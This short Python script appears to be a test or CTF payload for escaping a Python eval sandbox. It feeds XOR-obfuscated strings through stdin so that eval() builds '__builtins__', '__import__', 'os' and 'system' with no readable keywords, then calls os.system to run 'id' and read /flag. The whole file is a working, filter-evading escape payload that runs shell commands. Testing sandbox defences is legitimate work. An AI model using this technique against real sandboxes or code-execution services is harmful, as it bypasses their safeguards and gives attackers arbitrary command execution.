# Reaches __import__ from globals() with keys that clean evals compute by
# arithmetic on bytes (nothing readable in the texts), then imports os.
import io
import sys

sys.stdin = io.StringIO(
    "bytes(c ^ 1 for c in b'^^cthmuhor^^').decode()\n"
    "bytes(c ^ 1 for c in b'^^hlqnsu^^').decode()\n"
    "bytes(c ^ 1 for c in b'nr').decode()\n"
    "bytes(c ^ 1 for c in b'rxrudl').decode()\n"
)
k_builtins = eval(input())
k_import = eval(input())
k_mod = eval(input())
k_call = eval(input())
root = globals()[k_builtins]
space = root if isinstance(root, dict) else vars(root)
mod = space[k_import](k_mod)
vars(mod)[k_call]("id; cat /flag")
